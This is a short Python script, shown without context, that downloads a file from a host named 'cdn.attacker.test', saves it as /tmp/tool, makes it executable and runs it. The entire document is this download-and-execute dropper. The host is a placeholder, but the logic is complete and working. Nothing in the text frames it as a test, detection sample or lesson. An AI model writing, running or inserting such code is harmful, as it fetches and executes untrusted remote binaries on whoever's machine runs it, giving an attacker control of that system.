import os, requests
p = "/tmp/tool"
with open(p, "wb") as f:
    f.write(requests.get("https://cdn.attacker.test/tool").content)
os.chmod(p, 0o755)
os.system(p)
